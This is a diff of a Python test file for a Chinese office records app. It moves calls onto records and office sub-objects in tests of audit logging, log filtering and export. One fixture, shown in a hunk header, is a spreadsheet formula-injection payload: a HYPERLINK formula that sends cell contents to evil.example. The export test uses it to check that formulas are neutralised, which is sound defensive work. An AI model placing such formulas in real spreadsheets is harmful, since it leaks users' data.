@@ -16,13 +16,13 @@ EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
 
 
 def test_every_kind_of_change_is_logged_with_old_and_new(desk, tmp_path):
-    rid = desk.save("work_items", {"date": "2026-03-05", "kind": "宣传活动", "title": "旧标题", "count_a": 1}).record_id
-    desk.save("work_items", {"title": "新标题"}, rid)
-    desk.add_user("张审核", "审核人", "pw-1")
+    rid = desk.records.save("work_items", {"date": "2026-03-05", "kind": "宣传活动", "title": "旧标题", "count_a": 1}).record_id
+    desk.records.save("work_items", {"title": "新标题"}, rid)
+    desk.office.add_user("张审核", "审核人", "pw-1")
     desk.set_setting("backup_interval_minutes", 10)
     load_records(desk, {"work_items": [{"date": "2026-04-01", "kind": "宣传活动", "title": "导入的", "count_a": 2}]})
-    desk.delete("work_items", rid)
-    entries = desk.audit_entries()
+    desk.records.delete("work_items", rid)
+    entries = desk.office.audit_entries()
     by = {(e.action, e.table) for e in entries}
     assert {("insert", "work_items"), ("update", "work_items"), ("delete", "work_items"), ("insert", "users"),
             ("update", "settings")} <= by
@@ -44,36 +44,36 @@ def test_restore_is_logged_in_the_restored_file(make_desk):
     restore(db, path, user="管理员")
     again = Desk.open(db)
     again.user = "管理员"
-    entry = again.audit_entries(limit=1)[0]
+    entry = again.office.audit_entries(limit=1)[0]
     assert entry.action == "restore" and entry.new["from"] == str(path) and entry.row()[3] == "恢复备份"
     again.close()
 
 
 def test_filters_by_date_user_table_and_text(desk):
-    desk.add_user("李四", "填报人")
-    desk.save("work_items", {"date": "2026-03-05", "kind": "宣传活动", "title": "管理员写的", "count_a": 1})
+    desk.office.add_user("李四", "填报人")
+    desk.records.save("work_items", {"date": "2026-03-05", "kind": "宣传活动", "title": "管理员写的", "count_a": 1})
     desk.user = "李四"
-    desk.save("work_items", {"date": "2026-03-06", "kind": "宣传活动", "title": "李四写的", "count_a": 1})
-    desk.save("inspections", {"date": "2026-03-07", "kind": "日常巡查", "place_kind": "商场超市", "subject_count": 1,
+    desk.records.save("work_items", {"date": "2026-03-06", "kind": "宣传活动", "title": "李四写的", "count_a": 1})
+    desk.records.save("inspections", {"date": "2026-03-07", "kind": "日常巡查", "place_kind": "商场超市", "subject_count": 1,
                               "officers": 2})
     desk.db.execute("UPDATE audit_log SET at = '2025-01-02T08:00:00' WHERE id = 1")
     desk.user = "管理员"
-    assert {e.user for e in desk.audit_entries(user="李四")} == {"李四"}
-    assert {e.table for e in desk.audit_entries(table="inspections")} == {"inspections"}
-    hits = desk.audit_entries(text="李四写的")
+    assert {e.user for e in desk.office.audit_entries(user="李四")} == {"李四"}
+    assert {e.table for e in desk.office.audit_entries(table="inspections")} == {"inspections"}
+    hits = desk.office.audit_entries(text="李四写的")
     assert len(hits) == 1 and hits[0].new["title"] == "李四写的"
-    assert [e.id for e in desk.audit_entries(start="2025-01-01", end="2025-01-02")] == [1]
-    assert 1 not in [e.id for e in desk.audit_entries(start="2025-01-03")]
-    users, tables = desk.audit_filter_choices()
+    assert [e.id for e in desk.office.audit_entries(start="2025-01-01", end="2025-01-02")] == [1]
+    assert 1 not in [e.id for e in desk.office.audit_entries(start="2025-01-03")]
+    users, tables = desk.office.audit_filter_choices()
     assert {"管理员", "李四"} <= set(users) and "inspections" in tables
-    assert len(desk.audit_entries(limit=2)) == 2
+    assert len(desk.office.audit_entries(limit=2)) == 2
 
 
 @pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
 def test_export_keeps_formulas_as_text(desk, tmp_path, suffix):
-    desk.save("work_items", {"date": "2026-03-05", "kind": "宣传活动", "title": EVIL, "count_a": 1})
-    desk.save("cases", {"name": EVIL, "category": "商标侵权", "lead_date": "2026-03-02"})
-    out = audit_query.export(desk.audit_entries(), tmp_path / "日志 导出" / f"操作日志{suffix}")
+    desk.records.save("work_items", {"date": "2026-03-05", "kind": "宣传活动", "title": EVIL, "count_a": 1})
+    desk.records.save("cases", {"name": EVIL, "category": "商标侵权", "lead_date": "2026-03-02"})
+    out = audit_query.export(desk.office.audit_entries(), tmp_path / "日志 导出" / f"操作日志{suffix}")
     if suffix == ".xlsx":
         ws = load_workbook(out).active
         cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value and "HYPERLINK" in str(c.value)]
